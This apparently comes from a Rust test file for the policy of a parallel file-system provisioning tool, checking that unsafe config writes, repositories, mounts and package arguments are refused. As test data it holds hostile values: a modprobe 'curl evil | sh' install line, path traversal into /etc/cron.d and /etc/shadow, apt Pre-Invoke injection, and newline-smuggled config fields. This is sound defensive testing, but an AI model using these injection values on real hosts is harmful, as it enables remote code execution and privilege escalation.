//! Every rule, allowed and refused. The plans of the example cluster files are checked against
//! the default policy in `pvfs-plan`'s tests (they must all pass).

use super::*;
use crate::node::glob_match;
use pvfs_host::Command;
use pvfs_steps::{
    BeegfsService, BeegfsSetup, BlockQueue, ConfigKeys, Directory, File, Gate, GateKind, GlusterLayout,
    GlusterPeers, GlusterVolume, LctlParam, LustreRole, LustreStripe, LustreTarget, LvmThin, Mkfs, Mount,
    Package, PackageManager, Packages, Raid0, Repo, Service,
};
use std::time::Duration;

mod steps;

/// The rule that refuses `step` under the default policy, or "ok".
fn rule(step: Step) -> &'static str {
    rule_with(&Policy::default(), step)
}

fn rule_with(policy: &Policy, step: Step) -> &'static str {
    match policy.check_step(&step) {
        Ok(()) => "ok",
        Err(e) => e.rule,
    }
}

fn file(path: &str, contents: &str, mode: u32) -> Step {
    Step::File(File { path: path.into(), contents: contents.into(), mode })
}

fn dir(path: &str, mode: u32) -> Step {
    Step::Directory(Directory { path: path.into(), mode })
}

fn repo(name: &str, baseurl: &str) -> Repo {
    Repo {
        name: name.into(),
        baseurl: baseurl.into(),
        gpgkey: None,
        gpgcheck: true,
        allow_http: false,
        suites: vec![],
        components: vec![],
        key: None,
    }
}

fn packages(names: &[&str], repos: Vec<Repo>) -> Step {
    let list: Vec<Package> = names
        .iter()
        .map(|n| match n.split_once('=') {
            Some((name, v)) => Package { name: name.into(), version: Some(v.into()) },
            None => Package { name: (*n).into(), version: None },
        })
        .collect();
    Step::Packages(Packages { manager: PackageManager::Auto, apt: list.clone(), rpm: list, repos })
}

fn mount(source: &str, target: &str, fstype: &str, options: &str) -> Step {
    Step::Mount(Mount {
        source: source.into(),
        target: target.into(),
        fstype: fstype.into(),
        options: options.into(),
        fstab: true,
    })
}

fn mkfs(device: &str) -> Step {
    Step::Mkfs(Mkfs {
        device: device.into(),
        fstype: "xfs".into(),
        options: vec![],
        label: None,
        wipe: false,
    })
}

#[test]
fn paths_must_be_absolute_canonical_and_not_hidden() {
    assert_eq!(rule(dir("/data/brick1", 0o755)), "ok");
    for bad in ["data/x", "/data/../etc", "/data/./x", "/data//x", "/data/x/", "/data/x\n", "/data/\u{1b}x"] {
        assert_eq!(rule(dir(bad, 0o755)), "path-canonical", "{bad:?}");
    }
    assert_eq!(rule(dir(&format!("/data/{}", "x".repeat(256)), 0o755)), "path-canonical");
    for hidden in ["/home/alice/.ssh", "/data/.bashrc", "/srv/.hidden/x"] {
        assert_eq!(rule(file(hidden, "", 0o644)), "path-hidden", "{hidden}");
    }
}

#[test]
fn system_trees_are_not_data_paths() {
    for system in [
        "/",
        "/etc/pvfs",
        "/usr/local/x",
        "/lib64/x",
        "/libx32",
        "/var/lib/x",
        "/root",
        "/boot/x",
        "/run/x",
        "/nix/store/x",
    ] {
        assert_eq!(rule(dir(system, 0o755)), "system-tree", "{system}");
    }
    for data in ["/data", "/mnt/gv0", "/rhs/brick1", "/tmp/pvfs-local/mnt", "/srv/x", "/library"] {
        // "/library" starts with "lib" as a word, not as a component: it is /lib* by prefix,
        // which is deliberate (lib32, libx32, …); a site that wants /library names a data root.
        let want = if data == "/library" { "system-tree" } else { "ok" };
        assert_eq!(rule(dir(data, 0o755)), want, "{data}");
    }
}

#[test]
fn files_go_only_to_their_places_with_plain_modes() {
    assert_eq!(rule(file("/etc/modprobe.d/lnet.conf", "options lnet networks=tcp\n", 0o644)), "ok");
    assert_eq!(rule(file("/etc/lnet.conf", "net:\n  - net type: tcp\n", 0o644)), "ok");
    assert_eq!(
        rule(file("/etc/beegfs/beegfs-mounts.conf", "/mnt/beegfs /etc/beegfs/beegfs-client.conf\n", 0o644)),
        "ok"
    );
    assert_eq!(rule(file("/tmp/pvfs-local/targets/n1/format.conf", "x", 0o600)), "ok");
    for outside in
        ["/etc/cron.d/pvfs", "/etc/passwd", "/etc/modprobe.d/x/y.conf", "/etc/modprobe.d/x.sh", "/usr/bin/ls"]
    {
        assert_eq!(rule(file(outside, "", 0o644)), "file-place", "{outside}");
    }
    for reserved in [
        "/etc/fstab",
        "/etc/mdadm.conf",
        "/etc/yum.repos.d/x.repo",
        "/etc/udev/rules.d/99-x.rules",
        "/etc/beegfs/beegfs-client-autobuild.conf",
    ] {
        let err = Policy::default().check_step(&file(reserved, "", 0o644)).unwrap_err();
        assert_eq!(err.rule, "file-place", "{reserved}");
        assert!(err.fix.contains("only") || err.fix.contains("reserved"), "{err}");
    }
    for (mode, why) in [
        (0o4755, "setuid"),
        (0o2644, "setgid"),
        (0o1644, "sticky"),
        (0o666, "world-writable"),
        (0o755, "execute"),
        (0o100644, "not a permission mode"),
    ] {
        let err = Policy::default().check_step(&file("/data/x", "", mode)).unwrap_err();
        assert_eq!(err.rule, "file-mode");
        assert!(err.problem.contains(why), "{err}");
    }
    // The message names the rule, the value and what to do.
    let err = Policy::default().check_step(&file("/data/x", "", 0o4755)).unwrap_err();
    assert_eq!(
        err.to_string(),
        "refused by policy rule `file-mode`: mode 4755 for /data/x has the setuid bit; use a mode such as 0644 or 0600"
    );
}

#[test]
fn modprobe_files_hold_only_options() {
    let ok = "# LNet over TCP\noptions lnet networks=tcp0(eth0) accept=all\n\noptions ksocklnd credits=256\n";
    assert_eq!(rule(file("/etc/modprobe.d/lnet.conf", ok, 0o644)), "ok");
    for bad in [
        "install lnet /bin/sh -c 'curl evil | sh'\n",
        "options lnet networks=tcp\nremove lnet /tmp/x\n",
        "softdep lnet pre: evil\n",
        "options ../x a=b\n",
        "options lnet =x\n",
    ] {
        assert_eq!(rule(file("/etc/modprobe.d/lnet.conf", bad, 0o644)), "file-content", "{bad:?}");
    }
    assert_eq!(
        rule(file("/etc/beegfs/beegfs-mounts.conf", "/etc /etc/beegfs/beegfs-client.conf\n", 0o644)),
        "system-tree"
    );
    assert_eq!(rule(file("/etc/beegfs/beegfs-mounts.conf", "/mnt/b /etc/shadow\n", 0o644)), "file-content");
}

#[test]
fn config_keys_only_edit_beegfs_services() {
    let keys = |path: &str, k: &str, v: &str| {
        Step::ConfigKeys(ConfigKeys { path: path.into(), keys: vec![(k.into(), v.into())] })
    };
    assert_eq!(rule(keys("/etc/beegfs/beegfs-storage.conf", "tuneNumWorkers", "64")), "ok");
    assert_eq!(
        rule(keys("/etc/beegfs/beegfs-client.conf", "logStdFile", "/var/log/beegfs/client.log")),
        "ok"
    );
    assert_eq!(rule(keys("/etc/beegfs/beegfs-meta.conf", "storeMetaDirectory", "/data/beegfs/meta")), "ok");
    assert_eq!(rule(keys("/etc/ssh/sshd_config", "PermitRootLogin", "yes")), "file-place");
    assert_eq!(rule(keys("/etc/beegfs/beegfs-client-autobuild.conf", "buildArgs", "-j8")), "file-place");
    assert_eq!(rule(keys("/etc/beegfs/beegfs-client.conf", "x = y\nz", "1")), "config-keys");
    assert_eq!(rule(keys("/etc/beegfs/beegfs-client.conf", "a", "1\nsysMgmtdHost = evil")), "config-keys");
    assert_eq!(rule(keys("/etc/beegfs/beegfs-client.conf", "logStdFile", "/etc/cron.d/x")), "config-keys");
}

/// Issue 24, item 1: values a daemon uses as paths, escaping by `..`, by being relative, or by
/// a key the grammar did not think of, in ConfigKeys and gluster volume options alike.
#[test]
fn setting_values_that_are_paths_are_canonical_and_in_their_place() {
    let keys = |k: &str, v: &str| {
        Step::ConfigKeys(ConfigKeys {
            path: "/etc/beegfs/beegfs-storage.conf".into(),
            keys: vec![(k.into(), v.into())],
        })
    };
    for (k, v) in [
        ("logStdFile", "/etc/beegfs/../cron.d/evil"),
        ("logStdFile", "/var/log/beegfs/../../../etc/cron.d/evil"),
        ("logStdFile", "etc/cron.d/evil"),
        ("logStdFile", "/srv/notes"),
        ("connAuthFile", "../../etc/shadow"),
        ("connAuthFile", "/etc/shadow"),
        ("storeStorageDirectory", "/data/t1,/etc/cron.d"),
        ("sysNewPathKey", "../../etc/cron.d/x"),
    ] {
        assert_eq!(rule(keys(k, v)), "config-keys", "{k} = {v}");
    }
    assert_eq!(rule(keys("logStdFile", "/var/log/beegfs-storage.log")), "ok");
    assert_eq!(rule(keys("connAuthFile", "/etc/beegfs/connauthfile")), "ok");
    assert_eq!(rule(keys("storeStorageDirectory", "/data/t1,/data/t2")), "ok");
    // A site's data roots hold data paths in settings as they hold directories.
    let site = Policy::new(Site { data_roots: Some(vec!["/data".into()]), ..Site::default() }).unwrap();
    assert_eq!(rule_with(&site, keys("storeStorageDirectory", "/srv/t1")), "data-root");

    let volume = |k: &str, v: &str| {
        Step::GlusterVolume(GlusterVolume {
            name: "gv0".into(),
            bricks: vec!["n1:/data/brick1/gv0".into()],
            layout: GlusterLayout::Distribute,
            options: vec![(k.into(), v.into())],
        })
    };
    for (k, v) in [
        ("diagnostics.client-log-file", "../../etc/cron.d/x"),
        ("diagnostics.client-log-file", "/etc/cron.d/x"),
        ("diagnostics.brick-log-file", "/data/x.log"),
        ("server.statedump-path", "/etc/cron.d"),
        ("features.unknown-option", "../x"),
        ("nfs.rpc-statd", "/usr/sbin/rpc.statd"),
    ] {
        assert_eq!(rule(volume(k, v)), "gluster-option", "{k} = {v}");
    }
    assert_eq!(rule(volume("diagnostics.client-log-file", "/var/log/glusterfs/c.log")), "ok");
    assert_eq!(rule(volume("auth.allow", "10.0.0.0/24")), "ok");
}

#[test]
fn directories_have_safe_modes() {
    assert_eq!(rule(dir("/data/x", 0o750)), "ok");
    assert_eq!(rule(dir("/data/x", 0o1755)), "ok");
    for mode in [0o777, 0o4755, 0o2775, 0o10755] {
        assert_eq!(rule(dir("/data/x", mode)), "dir-mode", "{mode:o}");
    }
}

#[test]
fn packages_and_versions_by_grammar() {
    assert_eq!(
        rule(packages(
            &["glusterfs-server=10.3-5", "kernel=3.10.0-514.el7_lustre", "libstdc++6", "python3.11"],
            vec![]
        )),
        "ok"
    );
    for bad in ["-oAPT::Update::Pre-Invoke::=sh", "--reinstall", "a b", ".x", "x;y", ""] {
        assert_eq!(rule(packages(&[bad], vec![])), "package-name", "{bad:?}");
    }
    assert_eq!(rule(packages(&["fio=-1"], vec![])), "package-version");
    assert_eq!(rule(packages(&["fio=1 2"], vec![])), "package-version");
}

#[test]
fn repositories_are_https_signed_and_from_allowed_places() {
    let whamcloud = "https://downloads.whamcloud.com/public/lustre/lustre-2.9.0/el7/server/";
    assert_eq!(rule(packages(&["lustre"], vec![repo("lustreserver", whamcloud)])), "ok");
    let http = repo("l", "http://downloads.whamcloud.com/public/lustre/");
    assert_eq!(rule(packages(&[], vec![http.clone()])), "repo-url");
    assert_eq!(rule(packages(&[], vec![Repo { allow_http: true, ..http }])), "ok");
    assert_eq!(rule(packages(&[], vec![repo("x", "https://evil.example.com/repo/")])), "repo-prefix");
    // A prefix ends in '/': a look-alike host does not match.
    assert_eq!(
        rule(packages(&[], vec![repo("x", "https://downloads.whamcloud.com.evil.org/public/")])),
        "repo-prefix"
    );
    assert_eq!(rule(packages(&[], vec![repo("x", "file:///tmp/repo/")])), "repo-url");
    assert_eq!(rule(packages(&[], vec![repo("x", &format!("{whamcloud}\ngpgcheck=0"))])), "repo-url");
    for name in ["../../etc/cron.d/x", "a b", "-x", ".x", ""] {
        assert_eq!(rule(packages(&[], vec![repo(name, whamcloud)])), "repo-name", "{name:?}");
    }
    let key = |k: &str| Repo { gpgkey: Some(k.into()), ..repo("x", whamcloud) };
    assert_eq!(rule(packages(&[], vec![key("file:///etc/pki/rpm-gpg/RPM-GPG-KEY-EPEL-7")])), "ok");
    assert_eq!(rule(packages(&[], vec![key("https://evil.example.com/key")])), "repo-prefix");
    assert_eq!(rule(packages(&[], vec![key("file:///etc/pki/rpm-gpg/../../shadow")])), "path-canonical");
    // Unsigned: allowed where the cluster file says so, unless the site refuses it.
    let unsigned = Repo { gpgcheck: false, ..repo("x", whamcloud) };
    assert_eq!(rule(packages(&[], vec![unsigned.clone()])), "ok");
    let strict = Policy::new(Site { refuse_unsigned: true, ..Site::default() }).unwrap();
    assert_eq!(rule_with(&strict, packages(&[], vec![unsigned])), "repo-unsigned");
    // A site's mirror replaces the built-in list.
    let mirror = Policy::new(Site {
        repositories: Some(vec!["https://mirror.site/lustre/".into()]),
        ..Site::default()
    })
    .unwrap();
    assert_eq!(rule_with(&mirror, packages(&[], vec![repo("x", "https://mirror.site/lustre/2.9/")])), "ok");
    assert_eq!(rule_with(&mirror, packages(&[], vec![repo("x", whamcloud)])), "repo-prefix");
}

/// apt repositories: suites and components by grammar, a shipped key that is one armored
/// public key block, a node keyring but never a download; the writes, the keyring directory
/// and `apt-get update` (nothing else) allowed to packages steps only.
#[test]
fn apt_repositories_write_their_source_and_key_and_update_nothing_else() {
    let key = include_str!("../../pvfs-steps/testdata/packages/pvfs-test-repo.asc");
    let apt = Repo {
        suites: vec!["bookworm".into()],
        components: vec!["non-free".into()],
        key: Some(key.into()),
        ..repo("beegfs", "https://www.beegfs.io/release/beegfs_7.4.5")
    };
    assert_eq!(rule(packages(&["beegfs-client"], vec![apt.clone()])), "ok");
    for bad in ["-o", "book worm", "a\nTrusted: yes", ""] {
        let step = packages(&[], vec![Repo { suites: vec![bad.into()], ..apt.clone() }]);
        assert_eq!(rule(step), "repo-suite", "{bad:?}");
    }
    let step = packages(&[], vec![Repo { components: vec!["main\nOptions: x".into()], ..apt.clone() }]);
    assert_eq!(rule(step), "repo-suite");
    for bad in [
        "ssh-rsa AAAA",
        "-----BEGIN PGP PUBLIC KEY BLOCK-----\nmQ==\n-----END PGP PUBLIC KEY BLOCK-----\n-----BEGIN PGP PRIVATE KEY BLOCK-----\n",
        "",
    ] {
        let step = packages(&[], vec![Repo { key: Some(bad.into()), ..apt.clone() }]);
        assert_eq!(rule(step), "file-content", "{bad:?}");
    }
    let node_key = |k: &str| Repo { gpgkey: Some(k.into()), key: None, ..apt.clone() };
    assert_eq!(rule(packages(&[], vec![node_key("file:///usr/share/keyrings/beegfs.gpg")])), "ok");
    assert_eq!(
        rule(packages(&[], vec![node_key("file:///usr/share/keyrings/../../shadow")])),
        "path-canonical"
    );
    // apt fetches no keys, even from an allowed place.
    assert_eq!(
        rule(packages(&[], vec![node_key("https://www.beegfs.io/release/beegfs_7.4.5/gpg/GPG-KEY-beegfs")])),
        "repo-url"
    );
    // A yum repository ships no key.
    assert_eq!(
        rule(packages(&[], vec![Repo { suites: vec![], components: vec![], ..apt.clone() }])),
        "repo-url"
    );

    let policy = Policy::default();
    let check = |kind: &str, action: Action| policy.check_action(kind, &action).map_err(|e| e.rule);
    let write = |path: &str, contents: &str| Action::Write {
        path: path.into(),
        contents: contents.into(),
        mode: 0o644,
    };
    let source = "# comment\nTypes: deb\nURIs: https://www.beegfs.io/release/beegfs_7.4.5\nSuites: bookworm\nComponents: non-free\nSigned-By: /etc/apt/keyrings/pvfs-beegfs.asc\n";
    assert_eq!(check("packages", write("/etc/apt/sources.list.d/pvfs-beegfs.sources", source)), Ok(()));
    assert_eq!(check("packages", write("/etc/apt/keyrings/pvfs-beegfs.asc", key)), Ok(()));
    // Fields that change how apt trusts a source, a second paragraph, other places.
    for extra in ["Check-Valid-Until: no\n", "\nTypes: deb\n", "Allow-Insecure: yes\n"] {
        let path = "/etc/apt/sources.list.d/pvfs-beegfs.sources";
        assert_eq!(
            check("packages", write(path, &format!("{source}{extra}"))),
            Err("file-content"),
            "{extra:?}"
        );
    }
    assert_eq!(
        check("packages", write("/etc/apt/keyrings/pvfs-beegfs.asc", "not a key")),
        Err("file-content")
    );
    for path in [
        "/etc/apt/sources.list.d/beegfs.sources",
        "/etc/apt/sources.list",
        "/etc/apt/apt.conf.d/99x",
        "/etc/apt/trusted.gpg.d/pvfs-x.asc",
    ] {
        assert_eq!(check("packages", write(path, source)), Err("action-kind"), "{path}");
    }
    // Only a packages step writes apt's sources.
    assert!(check("file", write("/etc/apt/sources.list.d/pvfs-beegfs.sources", source)).is_err());
    let mkdir = |path: &str| Action::Mkdir { path: path.into(), mode: 0o755 };
    assert_eq!(check("packages", mkdir("/etc/apt/keyrings")), Ok(()));
    assert_eq!(check("packages", mkdir("/etc/apt/apt.conf.d")), Err("action-kind"));
    let open = Action::Mkdir { path: "/etc/apt/keyrings".into(), mode: 0o777 };
    assert_eq!(check("packages", open), Err("dir-mode"));
    let run = |program: &str, args: &[&str]| Action::Run(Command::new(program).args(args.iter().copied()));
    assert_eq!(check("packages", run("apt-get", &["update"])), Ok(()));
    assert_eq!(
        check("packages", run("apt-get", &["update", "-o", "APT::Update::Pre-Invoke::=sh"])),
        Err("program")
    );
    assert_eq!(check("packages", run("dnf", &["update"])), Err("program"));
}

#[test]
fn services_are_the_ones_pvfs_manages() {
    let service = |unit: &str| {
        Step::Service(Service { unit: unit.into(), enabled: true, running: true, configs: vec![] })
    };
    for unit in ["glusterd", "lnet", "beegfs-client.service", "beegfs-helperd"] {
        assert_eq!(rule(service(unit)), "ok", "{unit}");
    }
    for unit in ["debug-shell.service", "sshd", "ssh.socket", "-x", "a b", ""] {
        assert_eq!(rule(service(unit)), "service-unit", "{unit:?}");
    }
    let site = Policy::new(Site { services: vec!["nfs-server.service".into()], ..Site::default() }).unwrap();
    assert_eq!(rule_with(&site, service("nfs-server")), "ok");
}

#[test]
fn block_steps_name_devices_and_things_by_grammar() {
    let raid = |device: &str, members: &[&str], wipe: &[&str], conf: Option<&str>| {
        Step::Raid0(Raid0 {
            device: device.into(),
            members: members.iter().map(|m| (*m).into()).collect(),
            chunk_kib: None,
            wipe: wipe.iter().map(|m| (*m).into()).collect(),
            conf: conf.map(Into::into),
        })
    };
    assert_eq!(
        rule(raid("/dev/md0", &["/dev/disk/azure/scsi1/lun0", "/dev/sdd"], &["/dev/sdd"], None)),
        "ok"
    );
    assert_eq!(rule(raid("/dev/md/data", &["/dev/sdc"], &[], Some("/etc/mdadm.conf"))), "ok");
    assert_eq!(rule(raid("/dev/sdc", &["/dev/sdd"], &[], None)), "device-path");
    assert_eq!(rule(raid("/dev/md0", &["/etc/passwd"], &[], None)), "device-path");
    assert_eq!(rule(raid("/dev/md0", &["/dev/shm/disk"], &[], None)), "device-path");
    assert_eq!(rule(raid("/dev/md0", &["/dev/../etc/x"], &[], None)), "device-path");
    assert_eq!(rule(raid("/dev/md0", &["/dev/sdc"], &["/dev/sda"], None)), "wipe");
    assert_eq!(rule(raid("/dev/md0", &["/dev/sdc"], &[], Some("/etc/cron.d/x"))), "file-place");

    let thin = LvmThin {
        pv: "/dev/md0".into(),
        vg: "rhgs-data".into(),
        pool: "brickpool".into(),
        pool_size: "9216g".into(),
        chunk: Some("256K".into()),
        lv: "brick1".into(),
        virtual_size: "100%FREE".into(),
        data_alignment: Some("1024K".into()),
        extent_size: Some("256K".into()),
        zero: false,
        wipe: false,
    };
    assert_eq!(rule(Step::LvmThin(thin.clone())), "ok");
    assert_eq!(rule(Step::LvmThin(LvmThin { vg: "--force".into(), ..thin.clone() })), "name");
    assert_eq!(rule(Step::LvmThin(LvmThin { lv: "snapshot1".into(), ..thin.clone() })), "name");
    assert_eq!(rule(Step::LvmThin(LvmThin { pool_size: "9216g -y".into(), ..thin.clone() })), "size");
    assert_eq!(rule(Step::LvmThin(LvmThin { virtual_size: "50%ALL".into(), ..thin })), "size");

    assert_eq!(rule(mkfs("/dev/md0")), "ok");
    assert_eq!(rule(Step::Mkfs(Mkfs { fstype: "vfat".into(), ..mkfs_of("/dev/md0") })), "fstype");
    assert_eq!(rule(Step::Mkfs(Mkfs { label: Some("-f".into()), ..mkfs_of("/dev/md0") })), "name");

    let ost = LustreTarget {
        device: "/dev/md0".into(),
        fsname: "LustreFS".into(),
        role: LustreRole::Ost,
        index: 1,
        mgsnode: Some("10.0.0.4@tcp".into()),
        backfstype: "ldiskfs".into(),
        wipe: false,
    };
    assert_eq!(rule(Step::LustreTarget(ost.clone())), "ok");
    assert_eq!(
        rule(Step::LustreTarget(LustreTarget {
            mgsnode: Some("10.0.0.4@tcp:10.0.0.5@o2ib1".into()),
            ..ost.clone()
        })),
        "ok"
    );
    assert_eq!(
        rule(Step::LustreTarget(LustreTarget { fsname: "TooLongName".into(), ..ost.clone() })),
        "name"
    );
    assert_eq!(
        rule(Step::LustreTarget(LustreTarget { mgsnode: Some("10.0.0.4 --reformat".into()), ..ost.clone() })),
        "nid"
    );
    assert_eq!(rule(Step::LustreTarget(LustreTarget { backfstype: "zfs".into(), ..ost })), "fstype");

    let queue = |s: &str| {
        Step::BlockQueue(BlockQueue {
            device: "/dev/md0".into(),
            members: vec!["/dev/disk/azure/scsi1/lun0".into()],
            scheduler: Some(s.into()),
            nr_requests: None,
            read_ahead_kb: None,
        })
    };
    assert_eq!(rule(queue("mq-deadline")), "ok");
    assert_eq!(rule(queue("none\nx")), "queue-value");
}

fn mkfs_of(device: &str) -> Mkfs {
    let Step::Mkfs(m) = mkfs(device) else { unreachable!() };
    m
}

#[test]
fn mounts_take_sources_by_type_and_safe_options() {
    assert_eq!(
        rule(mount("/dev/rhgs-data/brick1", "/rhs/brick1", "xfs", "defaults,inode64,noatime,nouuid")),
        "ok"
    );
    assert_eq!(
        rule(mount(
            "10.0.0.5:/dist-vol",
            "/mnt/gluster",
            "glusterfs",
            "defaults,_netdev,nosuid,nodev,backup-volfile-servers=10.0.0.6:10.0.0.7"
        )),
        "ok"
    );
    let client = "defaults,_netdev,nosuid,nodev";
    assert_eq!(rule(mount("10.0.0.4@tcp:/LustreFS", "/mnt/lustre", "lustre", client)), "ok");
    assert_eq!(rule(mount("10.0.0.4@tcp:10.0.0.5@tcp:/LustreFS", "/mnt/lustre", "lustre", client)), "ok");
    assert_eq!(rule(mount("/dev/md0", "/mnt/oss", "lustre", "defaults")), "ok");
    assert_eq!(rule(mount("beegfs_nodev", "/mnt/beegfs", "beegfs", "rw,relatime,nosuid,nodev")), "ok");

    assert_eq!(rule(mount("/dev/sdc", "/etc", "xfs", "defaults")), "system-tree");
    assert_eq!(rule(mount("/dev/sdc", "/root/x", "xfs", "defaults")), "system-tree");
    assert_eq!(rule(mount("/dev/sdc", "/data", "nfs", "defaults")), "mount-fstype");
    assert_eq!(rule(mount("/tmp/image", "/data", "xfs", "defaults")), "mount-source");
    assert_eq!(rule(mount("evil.example.com/x", "/data", "glusterfs", "defaults")), "mount-source");
    assert_eq!(rule(mount("tcp:/LustreFS", "/data", "lustre", "defaults")), "mount-source");
    assert_eq!(rule(mount("/dev/sdc", "/data", "beegfs", "defaults")), "mount-source");
    for bad in [
        "defaults 0 0\n/dev/sdd /etc xfs defaults",
        "defaults#x",
        "log-file=/etc/cron.d/x",
        "logdev=/dev/sdz",
        "journal_path=/dev/sdz",
        "helper=evil",
        "x-systemd.requires=debug-shell.service",
        "comment=x",
        // Issue 24, item 2: a mount a user may mount, unmount or own.
        "defaults,users",
        "defaults,user",
        "user=alice",
        "defaults,owner",
        "defaults,group",
        "",
    ] {
        assert_eq!(rule(mount("/dev/sdc", "/data", "xfs", bad)), "mount-options", "{bad:?}");
    }
    assert_eq!(
        rule(mount("/dev/sdc", "/data", "xfs", "defaults,x-systemd.mount-timeout=30,x-systemd.automount")),
        "ok"
    );
}

/// Issue 24, item 2: a client mount of a cluster file system is root's and carries nosuid and
/// nodev; its server is a node of the unit's cluster. `unmount` still undoes an older mount.
#[test]
fn client_mounts_are_nosuid_nodev_and_from_the_clusters_own_servers() {
    for options in
        ["defaults,_netdev", "suid,dev,exec,user", "defaults,nosuid", "nosuid,nodev,suid", "nosuid,nodev,dev"]
    {
        assert_eq!(
            rule(mount("10.0.0.5:/vol", "/mnt/g", "glusterfs", options)),
            "mount-options",
            "{options}"
        );
        assert_eq!(
            rule(mount("10.0.0.4@tcp:/fs", "/mnt/l", "lustre", options)),
            "mount-options",
            "{options}"
        );
    }
    // A local target is the node's own disk: no such rule.
    assert_eq!(rule(mount("/dev/sdc", "/data", "xfs", "defaults")), "ok");
    let old = Mount {
        source: "10.0.0.5:/vol".into(),
        target: "/mnt/g".into(),
        fstype: "glusterfs".into(),
        options: "defaults,_netdev".into(),
        fstab: true,
    };
    assert_eq!(rule(Step::Unmount(pvfs_steps::Unmount(old))), "ok");

    let cluster =
        Policy::default().for_cluster(["10.0.0.5".to_owned(), "10.0.0.6".to_owned(), "oss1".to_owned()]);
    let client = "defaults,_netdev,nosuid,nodev";
    assert_eq!(rule_with(&cluster, mount("10.0.0.5:/vol", "/mnt/g", "glusterfs", client)), "ok");
    assert_eq!(
        rule_with(&cluster, mount("evil.example:/vol", "/mnt/g", "glusterfs", client)),
        "mount-source"
    );
    let backup = "defaults,_netdev,nosuid,nodev,backup-volfile-servers=10.0.0.6:evil.example";
    assert_eq!(rule_with(&cluster, mount("10.0.0.5:/vol", "/mnt/g", "glusterfs", backup)), "mount-source");
    assert_eq!(rule_with(&cluster, mount("10.0.0.5@tcp:oss1@o2ib:/fs", "/mnt/l", "lustre", client)), "ok");
    assert_eq!(rule_with(&cluster, mount("10.9.9.9@tcp:/fs", "/mnt/l", "lustre", client)), "mount-source");
    // A request that names no cluster allows no server at all.
    let none = Policy::default().for_cluster(Vec::new());
    assert_eq!(rule_with(&none, mount("10.0.0.5:/vol", "/mnt/g", "glusterfs", client)), "mount-source");
    assert_eq!(
        rule_with(&none, Step::GlusterPeers(GlusterPeers { peers: vec!["10.0.0.6".into()] })),
        "cluster-host"
    );
    // Local mounts name no host.
    assert_eq!(rule_with(&none, mount("/dev/sdc", "/data", "xfs", "defaults")), "ok");
}

#[test]
fn gluster_beegfs_and_gates_by_grammar() {
    let volume = GlusterVolume {
        name: "gv0".into(),
        layout: GlusterLayout::Replicate { replica: 2 },
        bricks: vec!["10.0.0.5:/rhs/brick1/gv0".into(), "server2:/rhs/brick1/gv0".into()],
        options: vec![("performance.cache-size".into(), "256MB".into())],
    };
    assert_eq!(rule(Step::GlusterVolume(volume.clone())), "ok");
    assert_eq!(
        rule(Step::GlusterVolume(GlusterVolume { name: "gv0 force".into(), ..volume.clone() })),
        "name"
    );
    assert_eq!(
        rule(Step::GlusterVolume(GlusterVolume { bricks: vec!["10.0.0.5:/etc".into()], ..volume.clone() })),
        "system-tree"
    );
    assert_eq!(
        rule(Step::GlusterVolume(GlusterVolume { bricks: vec!["10.0.0.5/rhs".into()], ..volume.clone() })),
        "name"
    );
    assert_eq!(
        rule(Step::GlusterVolume(GlusterVolume {
            options: vec![("a b".into(), "1".into())],
            ..volume.clone()
        })),
        "gluster-option"
    );
    assert_eq!(
        rule(Step::GlusterVolume(GlusterVolume {
            options: vec![("x.y".into(), "1\n2".into())],
            ..volume.clone()
        })),
        "gluster-option"
    );
    assert_eq!(
        rule(Step::GlusterVolume(GlusterVolume {
            options: vec![("x.log".into(), "/etc/x".into())],
            ..volume
        })),
        "gluster-option"
    );
    assert_eq!(
        rule(Step::GlusterPeers(GlusterPeers {
            peers: vec!["10.0.0.6".into(), "server-2.example.com".into(), "::1".into()]
        })),
        "ok"
    );
    assert_eq!(rule(Step::GlusterPeers(GlusterPeers { peers: vec!["-x".into()] })), "name");

    let setup = BeegfsSetup {
        service: BeegfsService::Storage,
        path: Some("/data/beegfs/storage".into()),
        node_id: Some(1),
        target_id: Some(101),
        mgmt_host: Some("10.0.0.4".into()),
    };
    assert_eq!(rule(Step::BeegfsSetup(setup.clone())), "ok");
    assert_eq!(
        rule(Step::BeegfsSetup(BeegfsSetup { path: Some("/etc/beegfs".into()), ..setup.clone() })),
        "system-tree"
    );
    assert_eq!(rule(Step::BeegfsSetup(BeegfsSetup { mgmt_host: Some("-f".into()), ..setup })), "name");

    let gate = |kind: GateKind| Step::Gate(Gate { kind, deadline: Duration::from_secs(1) });
    assert_eq!(rule(gate(GateKind::LnetPing { nid: "10.0.0.4@tcp".into() })), "ok");
    assert_eq!(rule(gate(GateKind::LnetPing { nid: "10.0.0.4".into() })), "nid");
    assert_eq!(rule(gate(GateKind::Writable { dir: "/mnt/gv0".into() })), "ok");
    assert_eq!(rule(gate(GateKind::Writable { dir: "/etc".into() })), "system-tree");
}

#[test]
fn a_site_narrows_kinds_devices_and_data_roots() {
    let site = Policy::new(Site {
        kinds: Some(vec!["mkfs".into(), "mount".into(), "raid0".into()]),
        devices: Some(vec!["/dev/disk/azure/scsi1/lun*".into()]),
        data_roots: Some(vec!["/data".into(), "/mnt".into()]),
        ..Site::default()
    })
    .unwrap();
    assert_eq!(rule_with(&site, dir("/data/x", 0o755)), "kind-not-allowed");
    assert_eq!(rule_with(&site, mount("/dev/md0", "/srv/x", "xfs", "defaults")), "data-root");
    assert_eq!(rule_with(&site, mount("/dev/md0", "/database", "xfs", "defaults")), "data-root");
    assert_eq!(rule_with(&site, mount("/dev/md0", "/data/x", "xfs", "defaults")), "ok");
    // Gates change nothing and are always allowed.
    assert_eq!(
        rule_with(&site, Step::Gate(Gate { kind: GateKind::LfsCheckServers, deadline: Duration::ZERO })),
        "ok"
    );

    let root = tempfile::tempdir().unwrap();
    let host_root = Root::at(root.path());
    std::fs::create_dir_all(root.path().join("dev/disk/by-id")).unwrap();
    std::fs::write(root.path().join("dev/sdc"), "").unwrap();
    std::os::unix::fs::symlink("../../sdc", root.path().join("dev/disk/by-id/lun-link")).unwrap();
    let on = |step: &Step| site.check_step_on(step, &host_root, &[]).map_err(|e| e.rule);
    assert_eq!(on(&mkfs("/dev/disk/azure/scsi1/lun3")), Ok(()));
    assert_eq!(on(&mkfs("/dev/sdc")), Err("device-not-allowed"));
    // As resolved: a site that lists the kernel name allows its links.
    let by_name = Policy::new(Site { devices: Some(vec!["/dev/sd?".into()]), ..Site::default() }).unwrap();
    assert_eq!(by_name.check_step_on(&mkfs("/dev/disk/by-id/lun-link"), &host_root, &[]), Ok(()));
    let err = by_name.check_step_on(&mkfs("/dev/nvme0n1"), &host_root, &[]).unwrap_err();
    assert_eq!(err.rule, "device-not-allowed");
